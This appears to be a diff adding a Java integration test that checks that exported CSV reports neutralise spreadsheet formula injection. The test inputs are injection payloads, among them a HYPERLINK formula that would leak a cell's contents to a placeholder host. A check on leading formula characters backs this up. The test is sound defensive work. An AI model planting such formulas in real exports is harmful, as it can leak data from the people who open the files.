@@ -134,6 +134,40 @@ class ReportsIT extends IntegrationTest {
     }
 
     @Test
+    void namesASpreadsheetWouldRunComeOutAsTextInEveryCsv() throws Exception {
+        String owner = newUserToken();
+        long sponsorId = api.post("/usercenter/v1/userSponsor/addSponsor", "{\"userId\":0,\"type\":1,\"appletType\":0,"
+                + "\"isShow\":1,\"name\":\"@SUM(A1)\",\"desc\":\"d\",\"avatar\":\"\",\"qr_code\":\"\","
+                + "\"inputA\":\"\",\"inputB\":\"\"}", owner).data().path("id").asLong();
+        String lotteryName = "=HYPERLINK(\\\"http://x\\\"&A1,\\\"x\\\")";
+        long lotteryId = drawnLottery(lotteryName, 3, "{\"type\":1,\"name\":\"+SUM(1,2)\",\"count\":2,\"thumb\":\"\","
+                + "\"level\":1,\"grantType\":1}", owner, sponsorId);
+        LocalDate day = LocalDate.of(2001, 1, 1).plusDays(Math.floorMod(lotteryId, 3000));
+        jdbc.update("UPDATE lottery SET announce_time = ? WHERE id = ?",
+                Timestamp.from(day.atTime(12, 0).atZone(BUSINESS).toInstant()), lotteryId);
+
+        String prizeReport = new String(reports.renderToBytes(new ReportRequest(ReportType.PRIZE_FINANCE, ReportFormat.CSV,
+                null, null, day, day)), StandardCharsets.UTF_8);
+        String drawAudit = new String(reports.renderToBytes(ReportRequest.drawAudit(lotteryId, ReportFormat.CSV)),
+                StandardCharsets.UTF_8);
+
+        // a leading quote makes each one text; the quotes inside are doubled, as CSV requires
+        String hyperlink = "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"x\"\")\"";
+        assertThat(prizeReport).contains(hyperlink, "\"'+SUM(1,2)\"");
+        // here the sponsor's name comes after a label in its cell: nothing a spreadsheet would run, so left as it is
+        assertThat(prizeReport).contains("赞助商 Sponsor: @SUM(A1)");
+        // the draw audit puts the lottery and prize names after a label, and the sponsor's name alone in its cell
+        assertThat(drawAudit).contains("=HYPERLINK(\"\"http://x\"\"&A1,\"\"x\"\")", "L1 · +SUM(1,2)", "\"'@SUM(A1)\"");
+        for (String csv : List.of(prizeReport, drawAudit)) {
+            assertThat(cells(csv)).as("no cell a spreadsheet would run").noneMatch(cell -> !cell.isEmpty()
+                    && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
+        }
+        // the figures the product computed stay numbers: offered 2, issued 2 on the prize's row
+        assertThat(prizeReport.lines().filter(line -> line.contains("'+SUM(1,2)")).findFirst().orElseThrow())
+                .contains(",2,2,");
+    }
+
+    @Test
     void thePointsLiabilityReportAgreesWithTheLedger() throws Exception {
         api.post("/checkin/v1/checkin", "{}", newUserToken());
         LocalDate today = LocalDate.now(BUSINESS);
@@ -170,6 +204,35 @@ class ReportsIT extends IntegrationTest {
         lotteryService.changed(lotteryId);
         draws.draw(lotteryId);
         return lotteryId;
+    }
+
+    /** Every cell of a CSV (RFC 4180: quoted cells may hold commas, doubled quotes and line breaks), unquoted. */
+    private static List<String> cells(String csv) {
+        List<String> cells = new ArrayList<>();
+        StringBuilder cell = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < csv.length(); i++) {
+            char c = csv.charAt(i);
+            if (quoted) {
+                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
+                    cell.append('"');
+                    i++;
+                } else if (c == '"') {
+                    quoted = false;
+                } else {
+                    cell.append(c);
+                }
+            } else if (c == '"') {
+                quoted = true;
+            } else if (c == ',' || c == '\n') {
+                cells.add(cell.toString());
+                cell.setLength(0);
+            } else {
+                cell.append(c);
+            }
+        }
+        cells.add(cell.toString());
+        return cells;
     }
 
     /** The PDF's text by pdftotext; its first page saved as PNG for a person to look at. */
